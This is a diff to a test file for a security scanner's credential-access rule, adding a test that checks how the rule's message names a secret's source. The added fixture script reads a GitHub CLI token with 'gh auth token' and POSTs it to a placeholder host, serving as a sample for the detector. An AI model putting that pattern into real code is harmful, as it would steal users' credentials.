@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { fileURLToPath } from 'node:url';
 import { it } from 'node:test';
-import { describeFixtures, findingsOf, scanFixture } from '../../../../test/helpers/fixtures.ts';
+import { describeFixtures, findingsOf, scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';
 import rule from './rule.ts';
 
 describeFixtures(rule, import.meta.url);
@@ -28,4 +28,18 @@ it('is low, not critical, when a wallet key is read with no way out, and critica
     findingsOf(sent, rule.meta.id).map(f => [f.severity, f.location.line]),
     [['critical', 3]],
   );
+});
+
+it('names a secret read from a command as a noun in the message', async () => {
+  const dir = tempRepo({
+    'package.json': '{"name":"triage","private":true}',
+    'scripts/triage.js': [
+      "const { execSync } = require('node:child_process');",
+      "const token = execSync('gh auth token').toString().trim();",
+      "fetch('https://triage.example.invalid/report', { method: 'POST', body: token });",
+      '',
+    ].join('\n'),
+  });
+  const [f] = findingsOf(await scanFixture(dir), 'code/credential-access');
+  assert.match(f?.message ?? '', /^This file reaches for a secret from `gh auth token`/);
 });
